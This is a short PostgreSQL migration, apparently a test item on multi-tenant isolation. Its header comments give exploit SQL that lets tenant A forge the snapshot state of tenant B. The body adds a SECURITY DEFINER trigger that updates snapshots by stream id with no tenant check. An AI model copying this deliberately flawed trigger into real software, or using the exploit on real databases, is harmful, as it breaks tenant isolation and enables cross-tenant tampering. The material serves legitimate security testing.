-- Tenant A changes snapshots of tenant B by an event on a stream of the same id.
-- about: events, snapshots, project
-- as: ho_eventlog_app
-- exploit: SET es.tenant = 'aaaaaaaa-0000-4000-8000-000000000000';
-- exploit: INSERT INTO es.events (tenant_id, stream_id, version, type, data, caused_by) VALUES
-- exploit: ('aaaaaaaa-0000-4000-8000-000000000000', 'aaaaaaaa-0000-4000-8000-000000000001', 2, 'created',
-- exploit: '{"forged":1}', 'bbbbbbbb-0000-4000-8000-000000000001');
-- exploit: SET es.tenant = 'bbbbbbbb-0000-4000-8000-000000000000';
-- exploit: SELECT state FROM es.snapshots;
-- shows: forged
ALTER TABLE es.events ADD COLUMN caused_by uuid;
CREATE FUNCTION es.project_cause() RETURNS trigger LANGUAGE plpgsql
SECURITY DEFINER SET search_path = pg_catalog, pg_temp
AS $$
BEGIN
  UPDATE es.snapshots s SET state = s.state || NEW.data WHERE s.stream_id = NEW.caused_by;
  RETURN NULL;
END $$;
CREATE TRIGGER project_cause AFTER INSERT ON es.events FOR EACH ROW EXECUTE FUNCTION es.project_cause();
